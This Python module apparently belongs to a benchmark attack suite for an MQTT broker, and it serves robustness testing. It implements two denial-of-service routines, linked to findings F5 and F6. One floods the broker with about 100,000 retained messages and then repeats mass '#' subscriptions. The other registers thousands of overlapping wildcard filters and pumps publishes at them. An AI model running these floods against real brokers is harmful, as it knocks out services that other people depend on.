"""Attacks on filters, retained messages and shares."""

from __future__ import annotations

from benchmarks.attack_suite.attack import Facts, attack
from benchmarks.attack_suite.mqtt import MqttClient, encode_publish
from benchmarks.attack_suite.pump import pump
from benchmarks.attack_suite.target import Target
from benchmarks.load.frames import SUBACK

RETAINED = 100_000
FILTERS = 8_192


def retain_many(target: Target) -> None:
    client = MqttClient(target.connect()).open(target.name("retainer"))
    batch = bytearray()
    for number in range(int(RETAINED * target.scale)):
        batch += encode_publish(b"attack/r/%d/%d" % (number % 997, number), b"x" * 32, retain=True)
        if len(batch) > 1 << 18:
            client.socket.sendall(batch)
            batch.clear()
    client.publish(b"attack/done", qos=1)
    client.socket.sendall(batch)
    client.expect(0x40)


@attack(
    "retained-subscribe",
    "SUBSCRIBE with 1,000 times `#` over 100,000 retained messages, again and again",
    finding="F5",
    prepare=retain_many,
)
def retained_subscribe(target: Target) -> Facts:
    sent = 0
    client = MqttClient(target.connect()).open(target.name())
    while not target.is_over():
        client.subscribe(*([b"#"] * 1000))
        client.expect(SUBACK)
        sent += 1
    return {"subscribes": sent}


@attack(
    "filters-pathological",
    "8,192 filters of `+` and `#` levels in one session, publishes to ever new topics",
    finding="F6",
)
def filters_pathological(target: Target) -> Facts:
    client = MqttClient(target.connect()).open(target.name())
    for start in range(0, target.count(FILTERS), 512):
        client.subscribe(*[spell_filter(start + offset) for offset in range(512)])
        client.expect(SUBACK)
    publisher = MqttClient(target.connect()).open(target.name("publisher"))
    batch = b"".join(encode_publish(b"/".join([b"a"] * 13) + b"/%d" % number) for number in range(4000))
    return pump(target, [publisher.socket], [batch])


def spell_filter(number: int) -> bytes:
    """Thirteen levels that are `a` or `+`, then `#`: all of them match the same topics."""
    return b"/".join([b"+" if number >> bit & 1 else b"a" for bit in range(13)]) + b"/#"
